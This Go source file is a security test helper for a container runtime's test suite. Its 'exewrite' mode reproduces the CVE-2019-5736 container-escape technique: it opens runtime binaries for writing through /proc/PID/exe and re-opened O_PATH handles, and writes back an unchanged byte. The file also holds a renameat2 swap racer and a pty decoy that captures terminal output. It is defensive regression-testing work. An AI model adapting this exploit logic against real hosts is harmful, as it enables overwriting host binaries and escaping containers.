// Command sechelper does what tests/security needs and busybox cannot: it
// plays the container side of runc's CVEs, and a host-side racer. Build it
// static (CGO_ENABLED=0): the tests copy it into busybox rootfses.
//
//	sechelper exewrite STOPFILE REPORT
//	    CVE-2019-5736 from inside a container: until STOPFILE exists, scan
//	    every /proc/PID whose argv[0] names a runtime (stasis or runc, as
//	    the init and exec helpers have it until they exec the user's
//	    program) and try to open its exe for writing, directly through
//	    /proc/PID/exe and, as the exploit does, by keeping an O_PATH handle
//	    on it and re-opening /proc/self/fd/N for writing over and over,
//	    after that process is gone too (then no one executes the binary
//	    and ETXTBSY no longer protects it). An open that succeeds is
//	    followed by a write of the byte already at offset 0, which changes
//	    no content but does change the file's mtime. Then write REPORT:
//	        seen pid=P argv0=A exe=LINK
//	        result exe=LINK how=direct|opath|reopen|write outcome=ERRNO|ok count=N
//	        summary seen=N attempts=N opened=N written=N
//	    (opened: opens for writing that succeeded; written: writes that did).
//	sechelper fds
//	    print "N TARGET" for every fd it was started with (it re-executes
//	    itself first, so that the Go runtime's own fds are not among them).
//	sechelper exchange A B STOPFILE
//	    swap the entries A and B (renameat2 RENAME_EXCHANGE) over and over
//	    until STOPFILE exists, then print "swaps N".
//	sechelper ptydecoy SLAVE-FILE OUT-FILE
//	    open a pty pair, write the slave's path to SLAVE-FILE (atomically),
//	    keep the slave open and append whatever is written to it to
//	    OUT-FILE, until killed.
package main

import (
	"bytes"
	"fmt"
	"os"
	"path/filepath"
	"sort"
	"strconv"
	"strings"
	"syscall"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

func main() {
	var err error
	switch {
	case len(os.Args) == 4 && os.Args[1] == "exewrite":
		err = exeWrite(os.Args[2], os.Args[3])
	case len(os.Args) == 2 && os.Args[1] == "fds":
		if os.Getenv("SECHELPER_FDS") == "" {
			// The Go runtime keeps cgroup files open (cpu.cfs_quota_us and
			// cpu.cfs_period_us, to follow the CPU limit): they are ours,
			// not passed on. They are close-on-exec; once re-executed
			// with containermaxprocs=0 the runtime opens none.
			env := append(os.Environ(), "SECHELPER_FDS=1", "GODEBUG=containermaxprocs=0,updatemaxprocs=0")
			err = syscall.Exec("/proc/self/exe", os.Args, env)
			break
		}
		err = listFds()
	case len(os.Args) == 5 && os.Args[1] == "exchange":
		err = exchange(os.Args[2], os.Args[3], os.Args[4])
	case len(os.Args) == 4 && os.Args[1] == "ptydecoy":
		err = ptyDecoy(os.Args[2], os.Args[3])
	default:
		fmt.Fprintln(os.Stderr, "usage: sechelper exewrite STOPFILE REPORT | fds | exchange A B STOPFILE | ptydecoy SLAVE-FILE OUT-FILE")
		os.Exit(2)
	}
	if err != nil {
		fmt.Fprintf(os.Stderr, "sechelper %s: %v\n", os.Args[1], err)
		os.Exit(1)
	}
}

// ---------------------------------------------------------------- exewrite

var errnoNames = map[syscall.Errno]string{
	syscall.EROFS: "EROFS", syscall.ETXTBSY: "ETXTBSY", syscall.EACCES: "EACCES",
	syscall.EPERM: "EPERM", syscall.ENOENT: "ENOENT", syscall.ESRCH: "ESRCH",
	syscall.EINVAL: "EINVAL", syscall.EBADF: "EBADF", syscall.ELOOP: "ELOOP",
}

func outcome(err error) string {
	if err == nil {
		return "ok"
	}
	if e, ok := err.(syscall.Errno); ok {
		if n, ok := errnoNames[e]; ok {
			return n
		}
		return fmt.Sprintf("errno%d", int(e))
	}
	return strings.ReplaceAll(err.Error(), " ", "_")
}

type held struct {
	link string
	fd   int
}

type tally struct {
	seen             []string
	counts           map[[3]string]int // exe, how, outcome
	attempts, opened int
	written          int
	keys             map[string]bool // pid:starttime already seen
	held             []held
}

func (t *tally) record(link, how string, err error) {
	t.counts[[3]string{link, how, outcome(err)}]++
	switch how {
	case "opath":
		// An O_PATH open is no open for writing.
	case "write":
		if err == nil {
			t.written++
		}
	default:
		t.attempts++
		if err == nil {
			t.opened++
		}
	}
}

// tryWrite writes the byte at offset 0 of the file open as wfd back in
// place (read through a second, read-only open of the same file).
func (t *tally) tryWrite(link string, wfd int) {
	var b [1]byte
	rfd, err := syscall.Open("/proc/self/fd/"+strconv.Itoa(wfd), syscall.O_RDONLY|syscall.O_CLOEXEC, 0)
	if err == nil {
		_, err = syscall.Pread(rfd, b[:], 0)
		syscall.Close(rfd)
	}
	if err == nil {
		_, err = syscall.Pwrite(wfd, b[:], 0)
	}
	t.record(link, "write", err)
}

func (t *tally) openWrite(path, link, how string) {
	fd, err := syscall.Open(path, syscall.O_WRONLY|syscall.O_CLOEXEC, 0)
	t.record(link, how, err)
	if err == nil {
		t.tryWrite(link, fd)
		syscall.Close(fd)
	}
}

// runtimeArgv0 reads PID's argv[0] and says whether it names a runtime.
func runtimeArgv0(pid string) (string, bool) {
	data, err := os.ReadFile("/proc/" + pid + "/cmdline")
	if err != nil || len(data) == 0 {
		return "", false
	}
	argv0 := string(bytes.SplitN(data, []byte{0}, 2)[0])
	base := filepath.Base(argv0)
	return argv0, strings.Contains(base, "stasis") || base == "runc"
}

// startTime is field 22 of /proc/PID/stat: with the pid it names one process.
func startTime(pid string) string {
	data, err := os.ReadFile("/proc/" + pid + "/stat")
	if err != nil {
		return ""
	}
	i := bytes.LastIndexByte(data, ')')
	if i < 0 {
		return ""
	}
	f := strings.Fields(string(data[i+1:]))
	if len(f) < 20 {
		return ""
	}
	return f[19]
}

func (t *tally) scan(self string) {
	d, err := os.Open("/proc")
	if err != nil {
		return
	}
	names, _ := d.Readdirnames(-1)
	d.Close()
	for _, pid := range names {
		if pid == self || pid[0] < '0' || pid[0] > '9' {
			continue
		}
		argv0, ok := runtimeArgv0(pid)
		if !ok {
			continue
		}
		exe := "/proc/" + pid + "/exe"
		link, err := os.Readlink(exe)
		if err != nil {
			link = "unreadable:" + outcome(unwrap(err))
		}
		t.openWrite(exe, link, "direct")
		key := pid + ":" + startTime(pid)
		if t.keys[key] {
			continue
		}
		t.keys[key] = true
		t.seen = append(t.seen, fmt.Sprintf("seen pid=%s argv0=%s exe=%s", pid, argv0, link))
		fd, err := syscall.Open(exe, unix.O_PATH|syscall.O_CLOEXEC, 0)
		t.record(link, "opath", err)
		if err == nil {
			t.held = append(t.held, held{link, fd})
		}
	}
}

func unwrap(err error) error {
	if pe, ok := err.(*os.PathError); ok {
		return pe.Err
	}
	if le, ok := err.(*os.LinkError); ok {
		return le.Err
	}
	return err
}

func exeWrite(stop, report string) error {
	t := &tally{counts: map[[3]string]int{}, keys: map[string]bool{}}
	self := strconv.Itoa(os.Getpid())
	for {
		if _, err := os.Stat(stop); err == nil {
			break
		}
		t.scan(self)
		for _, h := range t.held {
			t.openWrite("/proc/self/fd/"+strconv.Itoa(h.fd), h.link, "reopen")
		}
		time.Sleep(300 * time.Microsecond)
	}
	var sb strings.Builder
	for _, s := range t.seen {
		sb.WriteString(s + "\n")
	}
	keys := make([][3]string, 0, len(t.counts))
	for k := range t.counts {
		keys = append(keys, k)
	}
	sort.Slice(keys, func(i, j int) bool {
		return strings.Join(keys[i][:], " ") < strings.Join(keys[j][:], " ")
	})
	for _, k := range keys {
		fmt.Fprintf(&sb, "result exe=%s how=%s outcome=%s count=%d\n", k[0], k[1], k[2], t.counts[k])
	}
	fmt.Fprintf(&sb, "summary seen=%d attempts=%d opened=%d written=%d\n", len(t.seen), t.attempts, t.opened, t.written)
	return writeAtomic(report, sb.String())
}

func writeAtomic(path, data string) error {
	tmp := path + ".tmp"
	if err := os.WriteFile(tmp, []byte(data), 0o644); err != nil {
		return err
	}
	return os.Rename(tmp, path)
}

// ---------------------------------------------------------------- fds

// listFds reads /proc/self/fd with raw syscalls: os.Open would register
// the directory with the Go poller, whose epoll fd would show up too.
func listFds() error {
	dfd, err := syscall.Open("/proc/self/fd", syscall.O_RDONLY|syscall.O_DIRECTORY|syscall.O_CLOEXEC, 0)
	if err != nil {
		return err
	}
	var fds []int
	buf := make([]byte, 8192)
	for {
		n, err := syscall.ReadDirent(dfd, buf)
		if err != nil {
			return err
		}
		if n == 0 {
			break
		}
		var names []string
		_, _, names = syscall.ParseDirent(buf[:n], -1, names)
		for _, name := range names {
			if fd, err := strconv.Atoi(name); err == nil && fd != dfd {
				fds = append(fds, fd)
			}
		}
	}
	syscall.Close(dfd)
	sort.Ints(fds)
	for _, fd := range fds {
		target, err := os.Readlink("/proc/self/fd/" + strconv.Itoa(fd))
		if err != nil {
			target = "?" + outcome(unwrap(err))
		}
		fmt.Printf("%d %s\n", fd, target)
	}
	return nil
}

// ---------------------------------------------------------------- exchange

func renameat2(a, b string, flags uint) error {
	return unix.Renameat2(unix.AT_FDCWD, a, unix.AT_FDCWD, b, flags)
}

func exchange(a, b, stop string) error {
	n := 0
	for {
		// Checking for the stop file every swap would slow the race down.
		if n%256 == 0 {
			if _, err := os.Stat(stop); err == nil {
				break
			}
		}
		if err := renameat2(a, b, unix.RENAME_EXCHANGE); err != nil {
			return fmt.Errorf("exchange %s and %s: %w", a, b, err)
		}
		n++
	}
	// An even count leaves A and B as they were.
	if n%2 == 1 {
		if err := renameat2(a, b, unix.RENAME_EXCHANGE); err != nil {
			return err
		}
		n++
	}
	fmt.Printf("swaps %d\n", n)
	return nil
}

// ---------------------------------------------------------------- ptydecoy

func ptyDecoy(slaveFile, outFile string) error {
	m, err := syscall.Open("/dev/ptmx", syscall.O_RDWR|syscall.O_NOCTTY|syscall.O_CLOEXEC, 0)
	if err != nil {
		return err
	}
	var unlock int32
	if _, _, e := syscall.Syscall(syscall.SYS_IOCTL, uintptr(m), syscall.TIOCSPTLCK, uintptr(unsafe.Pointer(&unlock))); e != 0 {
		return fmt.Errorf("unlock pty: %w", e)
	}
	var n uint32
	if _, _, e := syscall.Syscall(syscall.SYS_IOCTL, uintptr(m), syscall.TIOCGPTN, uintptr(unsafe.Pointer(&n))); e != 0 {
		return fmt.Errorf("pty number: %w", e)
	}
	slave := fmt.Sprintf("/dev/pts/%d", n)
	s, err := syscall.Open(slave, syscall.O_RDWR|syscall.O_NOCTTY|syscall.O_CLOEXEC, 0)
	if err != nil {
		return err
	}
	defer syscall.Close(s)
	out, err := os.OpenFile(outFile, os.O_WRONLY|os.O_CREATE|os.O_APPEND, 0o644)
	if err != nil {
		return err
	}
	if err := writeAtomic(slaveFile, slave+"\n"); err != nil {
		return err
	}
	buf := make([]byte, 4096)
	for {
		k, err := syscall.Read(m, buf)
		if k > 0 {
			out.Write(buf[:k])
		}
		if err != nil && err != syscall.EINTR {
			return err
		}
	}
}
